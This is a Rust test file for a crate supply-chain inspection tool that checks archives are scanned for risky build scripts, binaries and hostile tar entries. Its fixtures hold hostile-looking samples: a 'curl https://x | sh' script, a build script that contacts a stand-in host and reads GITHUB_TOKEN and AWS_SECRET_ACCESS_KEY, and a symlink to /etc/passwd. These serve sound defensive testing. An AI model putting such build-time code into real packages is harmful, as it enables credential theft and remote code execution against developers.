//! End-to-end tests of `inspect_crate` and `compare` on fabricated archives.
#![allow(clippy::unwrap_used)]

use super::*;
use crate::testkit::krate::Krate;
use crate::testkit::raw::{RawTar, gzip};

fn inspect(k: &Krate) -> Result<CrateSurface, InspectError> {
    inspect_crate(
        &name_of(k),
        &version_of(k),
        k.build().as_slice(),
        &InspectLimits::default(),
    )
}

fn name_of(k: &Krate) -> String {
    k.manifest_text().lines().nth(1).unwrap()[8..]
        .trim_matches('"')
        .to_owned()
}

fn version_of(k: &Krate) -> String {
    k.manifest_text().lines().nth(2).unwrap()[11..]
        .trim_matches('"')
        .to_owned()
}

fn caps(s: &CrateSurface) -> Vec<(CapabilityKind, &str, u32)> {
    s.capabilities
        .iter()
        .map(|c| (c.kind, c.file.as_str(), c.line))
        .collect()
}

const BENIGN_BUILD: &str = r#"use std::env;

fn main() {
    println!("cargo:rerun-if-changed=src/x.c");
    let _out = env::var("OUT_DIR").unwrap();
    cc::Build::new().file("src/x.c").compile("x");
}
"#;

#[test]
fn crate_without_build_script() {
    let s = inspect(&Krate::new("plain", "0.1.0").file("src/lib.rs", "pub fn f() {}")).unwrap();
    assert_eq!(s.build_script, None);
    assert!(!s.proc_macro);
    assert_eq!(s.capabilities, []);
    assert_eq!(s.file_count, 2);
    assert!(s.total_bytes > 13);
    assert_eq!(s.notes, Vec::<String>::new());
}

#[test]
fn build_rs_is_auto_detected_and_benign_script_has_no_capabilities() {
    let s = inspect(
        &Krate::new("foo", "1.0.0")
            .file("build.rs", BENIGN_BUILD)
            .file("src/x.c", "int x(void) { return 1; }")
            .build_dependency("cc", "1"),
    )
    .unwrap();
    let b = s.build_script.as_ref().unwrap();
    assert_eq!(b.path, "build.rs");
    assert_eq!(b.source, BENIGN_BUILD);
    assert_eq!(s.capabilities, [], "{:#?}", s.capabilities);
    assert_eq!(s.build_dependencies, ["cc"]);
    assert_eq!(s.native_sources, ["src/x.c"]);
}

#[test]
fn build_false_ignores_build_rs() {
    let s = inspect(
        &Krate::new("foo", "1.0.0")
            .package_key("build", "false")
            .file(
                "build.rs",
                "fn main() { std::net::TcpStream::connect(\"x:1\"); }",
            ),
    )
    .unwrap();
    assert_eq!(s.build_script, None);
    assert_eq!(s.capabilities, []);
}

#[test]
fn custom_build_path() {
    let s = inspect(
        &Krate::new("foo", "1.0.0")
            .package_key("build", "\"tools/gen.rs\"")
            .file("tools/gen.rs", "mod util;\nfn main() { util::go() }\n")
            .file(
                "tools/util.rs",
                "pub fn go() {\n    std::process::Command::new(\"sh\");\n}\n",
            )
            .file(
                "build.rs",
                "fn main() { std::net::TcpStream::connect(\"x:1\"); }",
            ),
    )
    .unwrap();
    let b = s.build_script.as_ref().unwrap();
    assert_eq!(b.path, "tools/gen.rs");
    assert_eq!(b.modules, ["tools/util.rs"]);
    assert_eq!(caps(&s), [(CapabilityKind::Process, "tools/util.rs", 2)]);
}

#[test]
fn declared_build_script_missing() {
    let e = inspect(&Krate::new("foo", "1.0.0").package_key("build", "\"nope.rs\"")).unwrap_err();
    assert_eq!(
        e,
        InspectError::MissingBuildScript {
            path: "nope.rs".into()
        }
    );
}

#[test]
fn proc_macro_crate_is_scanned() {
    let s = inspect(
        &Krate::new("derive-x", "0.2.0")
            .manifest_extra("[lib]\nproc-macro = true")
            .file(
                "src/lib.rs",
                "mod imp;\n#[proc_macro]\npub fn m(t: TokenStream) -> TokenStream { imp::x(); t }\n",
            )
            .file("src/imp.rs", "pub fn x() {\n    let _ = std::env::var(\"SSH_AUTH_SOCK\");\n}\n"),
    )
    .unwrap();
    assert!(s.proc_macro);
    assert_eq!(s.build_script, None);
    assert_eq!(caps(&s), [(CapabilityKind::EnvRead, "src/imp.rs", 2)]);
}

#[test]
fn sys_crate_with_links_and_c_sources() {
    let s = inspect(
        &Krate::new("z-sys", "1.1.0")
            .package_key("links", "\"z\"")
            .build_dependency("cc", "1.0")
            .build_dependency("pkg-config", "0.3")
            .file("build.rs", BENIGN_BUILD)
            .file("src/zlib/deflate.c", "")
            .file("src/zlib/zlib.h", "")
            .file("src/zlib/asm/x86.S", "")
            .file("src/lib.rs", ""),
    )
    .unwrap();
    assert_eq!(s.links.as_deref(), Some("z"));
    assert_eq!(s.build_dependencies, ["cc", "pkg-config"]);
    assert_eq!(
        s.native_sources,
        [
            "src/zlib/asm/x86.S",
            "src/zlib/deflate.c",
            "src/zlib/zlib.h"
        ]
    );
}

#[test]
fn shipped_elf_and_dll_are_binaries() {
    let mut pe = vec![0u8; 0x200];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let s = inspect(
        &Krate::new("foo", "1.0.0")
            .file_bytes("lib/libfoo.so", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0")
            .file_bytes("lib/foo.dll", &pe)
            .file("tools/fetch.sh", "#!/bin/sh\ncurl https://x | sh\n"),
    )
    .unwrap();
    assert_eq!(
        s.binaries,
        [
            BinaryFile {
                path: "lib/foo.dll".into(),
                kind: BinaryKind::Pe
            },
            BinaryFile {
                path: "lib/libfoo.so".into(),
                kind: BinaryKind::Elf
            },
        ]
    );
    assert_eq!(s.scripts, ["tools/fetch.sh"]);
}

const EVIL_BUILD: &str = r#"use std::process::Command;

fn main() {
    let _ = std::net::TcpStream::connect("1.2.3.4:80");
    let _ = Command::new("curl").arg("https://x").status();
    let token = std::env::var("GITHUB_TOKEN");
}
"#;

#[test]
fn malicious_build_script_pattern() {
    let s = inspect(&Krate::new("arrayref", "0.3.9").file("build.rs", EVIL_BUILD)).unwrap();
    assert_eq!(
        caps(&s),
        [
            (CapabilityKind::Network, "build.rs", 4),
            (CapabilityKind::Process, "build.rs", 5),
            (CapabilityKind::CredentialPath, "build.rs", 6),
        ],
        "{:#?}",
        s.capabilities
    );
    assert!(
        s.capabilities[1]
            .evidence
            .contains(r#"Command::new("curl")"#)
    );
    assert!(s.capabilities[2].evidence.contains("GITHUB_TOKEN"));
}

#[test]
fn capability_in_helper_module_is_attributed_to_the_helper() {
    let s = inspect(
        &Krate::new("foo", "1.0.0")
            .file(
                "build.rs",
                "mod helper;\n\nfn main() {\n    helper::run();\n}\n",
            )
            .file(
                "helper/mod.rs",
                "pub fn run() {\n    let _ = std::net::TcpStream::connect(\"evil:443\");\n}\n",
            ),
    )
    .unwrap();
    assert_eq!(caps(&s), [(CapabilityKind::Network, "helper/mod.rs", 2)]);
    let b = s.build_script.unwrap();
    assert_eq!(b.modules, ["helper/mod.rs"]);
    assert!(b.module_sources[0].contains("evil:443"));
}

#[test]
fn http_build_dependency_is_network() {
    let s = inspect(
        &Krate::new("foo", "1.0.0")
            .build_dependency("ureq", "2")
            .file("build.rs", "fn main() {}"),
    )
    .unwrap();
    assert_eq!(caps(&s), [(CapabilityKind::Network, "Cargo.toml", 7)]);
}

#[test]
fn build_script_that_is_not_rust_is_unreviewable() {
    let e = inspect(&Krate::new("foo", "1.0.0").file("build.rs", "fn main( {\n")).unwrap_err();
    assert!(
        matches!(e, InspectError::UnparsableRust { ref file, .. } if file == "build.rs"),
        "{e}"
    );
}

#[test]
fn unparsable_module_is_uninspected_and_a_missing_one_a_note() {
    let s = inspect(
        &Krate::new("foo", "1.0.0")
            .file("build.rs", "mod a;\nmod missing;\nfn main() {}\n")
            .file("a.rs", "this is not rust"),
    )
    .unwrap();
    assert_eq!(s.uninspected.len(), 1, "{:?}", s.uninspected);
    assert!(s.uninspected[0].contains("`a.rs` was not inspected"));
    assert_eq!(s.notes.len(), 1, "{:?}", s.notes);
    assert!(s.notes[0].contains("missing.rs"));
}

#[test]
fn oversized_build_script_module_is_uninspected() {
    let limits = InspectLimits {
        max_file_bytes: 1024,
        ..InspectLimits::default()
    };
    let k = Krate::new("foo", "1.0.0")
        .file("build.rs", "mod helper;\nfn main() { helper::run(); }\n")
        .file(
            "helper.rs",
            &format!(
                "pub fn run() {{ std::process::Command::new(\"sh\").status().ok(); }}\n{}",
                "// pad\n".repeat(500)
            ),
        );
    let s = inspect_crate("foo", "1.0.0", k.build().as_slice(), &limits).unwrap();
    assert!(s.capabilities.is_empty(), "{:?}", s.capabilities);
    assert_eq!(s.uninspected.len(), 1, "{:?}", s.uninspected);
    assert!(
        s.uninspected[0].contains("`helper.rs` was not inspected"),
        "{:?}",
        s.uninspected
    );
}

#[test]
fn missing_manifest() {
    let e = inspect(
        &Krate::new("foo", "1.0.0")
            .without_manifest()
            .file("src/lib.rs", ""),
    )
    .unwrap_err();
    assert_eq!(
        e,
        InspectError::MissingManifest {
            expected: "foo-1.0.0".into()
        }
    );
}

#[test]
fn manifest_not_toml() {
    let k = Krate::new("foo", "1.0.0").manifest("[package\nname = ");
    let e = inspect_crate(
        "foo",
        "1.0.0",
        k.build().as_slice(),
        &InspectLimits::default(),
    )
    .unwrap_err();
    assert!(matches!(e, InspectError::InvalidManifest { .. }), "{e}");
}

#[test]
fn text_past_the_kept_budget_is_dropped_and_build_code_among_it_is_not_inspected() {
    let limits = InspectLimits {
        max_kept_bytes: 3 * 1024,
        ..InspectLimits::default()
    };
    // Generated sources over the budget (archived before `build.rs`, by path) and no build
    // script (the shape of `windows`): the
    // crate is inspected, and the notes say what was not kept.
    let mut k = Krate::new("foo", "1.0.0");
    for i in 0..5 {
        k = k.file_bytes(&format!("a/gen{i}.rs"), &[b'a'; 1024]);
    }
    let s = inspect_crate("foo", "1.0.0", k.build().as_slice(), &limits).unwrap();
    assert!(s.uninspected.is_empty(), "{:?}", s.uninspected);
    assert!(
        s.notes.iter().any(|n| n.contains("per-crate budget")),
        "{:?}",
        s.notes
    );
    // The same files, then a build script whose text falls past the budget: the build-time
    // code is not inspected, which the engine reports as `unreviewable` (deny).
    let script = format!("fn main() {{}}\n// {}\n", "x".repeat(1100));
    let k = k.file("build.rs", &script);
    match inspect_crate("foo", "1.0.0", k.build().as_slice(), &limits) {
        Ok(s) => assert!(!s.uninspected.is_empty(), "{s:?}"),
        Err(e) => assert!(!e.to_string().is_empty()),
    }
    // Within the default budget the build script is read.
    let s = inspect_crate(
        "foo",
        "1.0.0",
        k.build().as_slice(),
        &InspectLimits::default(),
    )
    .unwrap();
    assert!(s.uninspected.is_empty(), "{:?}", s.uninspected);
}

#[test]
fn huge_file_is_sniffed_but_not_kept() {
    let limits = InspectLimits {
        max_file_bytes: 64 * 1024,
        ..InspectLimits::default()
    };
    let mut big = b"\x7fELF".to_vec();
    big.extend((0..(2u32 << 20)).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
    let k = Krate::new("foo", "1.0.0").file_bytes("blob", &big);
    let s = inspect_crate("foo", "1.0.0", k.build().as_slice(), &limits).unwrap();
    assert_eq!(
        s.binaries,
        [BinaryFile {
            path: "blob".into(),
            kind: BinaryKind::Elf
        }]
    );
    assert!(s.total_bytes > 2 << 20);
}

#[test]
fn high_entropy_blob_is_suspicious() {
    let blob: Vec<u8> = (0..(64u32 * 1024))
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 11) as u8)
        .collect();
    let s = inspect(&Krate::new("foo", "1.0.0").file_bytes("data/payload.dat", &blob)).unwrap();
    assert_eq!(s.suspicious_files.len(), 1, "{:?}", s.suspicious_files);
    assert_eq!(s.suspicious_files[0].path, "data/payload.dat");
}

#[test]
fn oversized_build_script_is_unreviewable() {
    let limits = InspectLimits {
        max_file_bytes: 1024,
        ..InspectLimits::default()
    };
    let k = Krate::new("foo", "1.0.0").file(
        "build.rs",
        &format!("fn main() {{}}\n{}", "// pad\n".repeat(500)),
    );
    let e = inspect_crate("foo", "1.0.0", k.build().as_slice(), &limits).unwrap_err();
    assert!(
        matches!(e, InspectError::FileTooLarge { ref path, .. } if path == "build.rs"),
        "{e}"
    );
}

#[test]
fn hostile_archives_map_to_errors() {
    let manifest = b"[package]\nname = \"foo\"\nversion = \"1.0.0\"\n";
    type AddEntry = Box<dyn Fn(&mut RawTar)>;
    let cases: Vec<(&str, AddEntry, &str)> = vec![
        (
            "dot-dot",
            Box::new(|t| {
                t.file("foo-1.0.0/../evil.rs", b"");
            }),
            "path-traversal",
        ),
        (
            "absolute",
            Box::new(|t| {
                t.file("/foo-1.0.0/x", b"");
            }),
            "absolute-path",
        ),
        (
            "symlink",
            Box::new(|t| {
                t.link("foo-1.0.0/build.rs", b'2', "/etc/passwd");
            }),
            "symlink",
        ),
        (
            "hardlink",
            Box::new(|t| {
                t.link("foo-1.0.0/a", b'1', "foo-1.0.0/Cargo.toml");
            }),
            "hard-link",
        ),
        (
            "device",
            Box::new(|t| {
                t.entry(b"foo-1.0.0/sda", b'4', b"");
            }),
            "special-file",
        ),
        (
            "dup",
            Box::new(|t| {
                t.file("foo-1.0.0/Cargo.toml", b"[package]\nbuild = \"x.rs\"");
            }),
            "duplicate-path",
        ),
        (
            "top",
            Box::new(|t| {
                t.file("foo-1.0.1/src/lib.rs", b"");
            }),
            "outside-top-folder",
        ),
        (
            "utf8",
            Box::new(|t| {
                t.entry(b"foo-1.0.0/\xc0.rs", b'0', b"");
            }),
            "non-utf8-path",
        ),
    ];
    for (name, add, code) in cases {
        let mut t = RawTar::new();
        t.file("foo-1.0.0/Cargo.toml", manifest);
        add(&mut t);
        let e = inspect_crate(
            "foo",
            "1.0.0",
            gzip(&t.finish()).as_slice(),
            &InspectLimits::default(),
        )
        .unwrap_err();
        assert_eq!(e.code(), code, "{name}: {e}");
    }
}

fn surface(k: Krate) -> CrateSurface {
    inspect(&k).unwrap()
}

#[test]
fn compare_build_script_added() {
    let old = surface(Krate::new("foo", "1.0.0"));
    let new = surface(Krate::new("foo", "1.0.1").file("build.rs", EVIL_BUILD));
    let d = compare(&old, &new);
    assert!(d.build_script_added);
    assert!(!d.build_script_removed);
    assert_eq!(d.new_capabilities.len(), 3);
    let diff = d.build_script_diff.unwrap();
    assert!(
        diff.contains("+    let _ = std::net::TcpStream::connect(\"1.2.3.4:80\");"),
        "{diff}"
    );
    let back = compare(&new, &old);
    assert!(back.build_script_removed);
    assert_eq!(back.build_script_diff, None);
    assert!(back.new_capabilities.is_empty());
}

#[test]
fn compare_build_script_changed_diff_is_readable() {
    let old = surface(Krate::new("foo", "1.0.0").file("build.rs", BENIGN_BUILD));
    let changed = BENIGN_BUILD.replace(
        "    cc::Build",
        "    let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(\"id\").status();\n    cc::Build",
    );
    let new = surface(Krate::new("foo", "1.0.1").file("build.rs", &changed));
    let d = compare(&old, &new);
    assert!(!d.build_script_added);
    let diff = d.build_script_diff.unwrap();
    assert!(
        diff.starts_with("--- a/build.rs\n+++ b/build.rs\n@@"),
        "{diff}"
    );
    assert!(
        diff.contains("+    let _ = std::process::Command::new(\"sh\")"),
        "{diff}"
    );
    assert_eq!(d.new_capabilities.len(), 1);
    assert_eq!(d.new_capabilities[0].kind, CapabilityKind::Process);
    assert_eq!(compare(&old, &old), SurfaceDelta::default());
    assert!(compare(&old, &old).is_empty());
}

#[test]
fn compare_ignores_moved_lines_but_reports_new_capabilities() {
    let old = surface(Krate::new("foo", "1.0.0").file("build.rs", EVIL_BUILD));
    let moved = format!("// new comment\n\n{EVIL_BUILD}");
    let new = surface(Krate::new("foo", "1.0.1").file("build.rs", &moved));
    assert!(compare(&old, &new).new_capabilities.is_empty());
    let more = EVIL_BUILD.replace(
        "fn main() {",
        "fn main() {\n    let _ = std::env::var(\"AWS_SECRET_ACCESS_KEY\");",
    );
    let newer = surface(Krate::new("foo", "1.0.2").file("build.rs", &more));
    let d = compare(&old, &newer);
    assert_eq!(d.new_capabilities.len(), 1, "{:#?}", d.new_capabilities);
    assert_eq!(d.new_capabilities[0].kind, CapabilityKind::CredentialPath);
}

#[test]
fn compare_proc_macro_links_natives_binaries_deps() {
    let old = surface(Krate::new("foo", "1.0.0"));
    let new = surface(
        Krate::new("foo", "1.0.1")
            .manifest_extra("[lib]\nproc-macro = true")
            .package_key("links", "\"foo\"")
            .build_dependency("cc", "1")
            .file("src/lib.rs", "")
            .file("csrc/a.c", "")
            .file_bytes("bin/x", b"\x7fELF...."),
    );
    let d = compare(&old, &new);
    assert!(d.became_proc_macro);
    assert!(!d.stopped_proc_macro);
    assert_eq!(d.links_added.as_deref(), Some("foo"));
    assert_eq!(d.new_native_sources, ["csrc/a.c"]);
    assert_eq!(d.new_binaries.len(), 1);
    assert_eq!(d.new_build_dependencies, ["cc"]);
    assert!(compare(&new, &old).stopped_proc_macro);
    assert_eq!(compare(&new, &new).links_added, None);
}

#[test]
fn long_diff_is_cut() {
    let old = surface(Krate::new("foo", "1.0.0").file("build.rs", "fn main() {}\n"));
    let body: String = (0..500)
        .map(|i| format!("    let _v{i} = {i};\n"))
        .collect();
    let new =
        surface(Krate::new("foo", "1.0.1").file("build.rs", &format!("fn main() {{\n{body}}}\n")));
    let diff = compare(&old, &new).build_script_diff.unwrap();
    assert_eq!(diff.lines().count(), 201);
    assert!(
        diff.trim_end().ends_with("more lines"),
        "{}",
        &diff[diff.len() - 60..]
    );
}

#[test]
fn surface_round_trips_through_json() {
    let s = surface(Krate::new("foo", "1.0.0").file("build.rs", EVIL_BUILD));
    let json = serde_json::to_string(&s).unwrap();
    assert!(json.contains("\"kind\":\"credential-path\""));
    let back: CrateSurface = serde_json::from_str(&json).unwrap();
    assert_eq!(back, s);
}
